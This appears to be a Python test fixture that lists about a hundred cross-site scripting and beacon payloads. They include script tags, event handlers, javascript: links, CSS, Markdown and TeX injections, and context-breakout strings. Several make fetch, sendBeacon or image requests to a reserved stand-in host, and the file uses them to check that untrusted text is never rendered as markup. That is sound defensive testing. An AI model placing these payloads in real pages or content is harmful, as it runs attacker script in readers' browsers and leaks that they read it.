"""Texts that would run a script, or tell another machine that they were read, wherever they are taken for markup.

Each sets `window.ran`, or asks a host that nobody has. They stand in for what a web page, a mail or a model may say:
wherever the package shows a text, it must stay a text. Most are old; what matters is that each takes another way in.
"""

from __future__ import annotations

HOST = "https://beacon.invalid"  # reserved: it can never answer
RUN = "window.ran=1"
PLAIN = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script src={HOST}/script.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script>import('{HOST}/module.js')</script>",
    f"<script>fetch('{HOST}/fetch')</script>",
    f"<script>navigator.sendBeacon('{HOST}/beacon')</script>",
    f"<script>new Image().src='{HOST}/pixel'</script>",
    "<script>new WebSocket('wss://beacon.invalid/socket')</script>",
    f"<script>new EventSource('{HOST}/events')</script>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    "<img src=x onerror=&#119;indow.ran=1>",
    f"<img srcset='x 1x' onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>ok</button>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={HOST}/poster></video>",
    f"<marquee onstart={RUN}>news</marquee>",
    f"<div style='animation:a 1s' onanimationstart={RUN}></div><style>@keyframes a{{}}</style>",
    f"<div tabindex=0 id=x onfocusin={RUN} autofocus>",
    f"<object data=x onerror={RUN}></object>",
    "<embed src='data:text/html,<script>parent.ran=1</script>'>",
    f"<frameset onload={RUN}>",
]
ADDRESSES = [
    f"<a href='javascript:{RUN}' id=x>read on</a>",
    f"<a href='java&#9;script:{RUN}'>read on</a>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src={HOST}/frame></iframe>",
    f"<form action='{HOST}/form'><button>Send</button></form><script>document.forms[0].submit()</script>",
    f"<base href={HOST}/base/>",
    f"<link rel=stylesheet href={HOST}/style.css>",
    f"<link rel=prefetch href={HOST}/prefetch>",
    f"<link rel=preconnect href={HOST}>",
    f"<meta http-equiv=refresh content='0;url={HOST}/refresh'>",
    f"<img src={HOST}/image>",
    f"<img srcset='{HOST}/srcset 1x'>",
    f"<input type=image src={HOST}/button>",
    f"<table background={HOST}/table><tr><td>x</td></tr></table>",
    f"<svg><image href={HOST}/svg></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<style>@import '{HOST}/import.css'</style>",
    f"<style>*{{background:url({HOST}/background)}}</style>",
    f"<p style='background:url({HOST}/inline)'>x</p>",
    f"<track src={HOST}/track default>",
]
OUT_OF_PLACE = [  # for where a text stands inside of something else: an attribute, a script, a style, a comment
    f"</script><script>{RUN}</script>",
    f"'\"--></style></title></textarea></script><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f'" onmouseover="{RUN}" x="',
    f"<!--<script>{RUN}//-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"];{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    f"\u2028\u2029{RUN}//\ud800",
    f"\u202e<script>{RUN}</script>\x00\x1b]8;;{HOST}/terminal\x07link\x1b]8;;\x07",
]
OTHER_LANGUAGES = [  # Markdown and mathematics, which notebooks understand as well
    f"![picture]({HOST}/markdown)",
    f"[link](javascript:{RUN})",
    f"<{HOST}/autolink> [reference]\n\n[reference]: {HOST}/reference",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\unicode{{<img src=x onerror={RUN}>}}$",
    f"$\\class{{x' onload='{RUN}}}{{y}}$ $\\style{{background:url({HOST}/tex)}}{{z}}$",
    "$\\frac{$ $$ \\( \\undefined{x} $",
    f"```{{=html}}\n<script>{RUN}</script>\n```",
]
PAYLOADS = [*PLAIN, *HANDLERS, *ADDRESSES, *OUT_OF_PLACE, *OTHER_LANGUAGES]
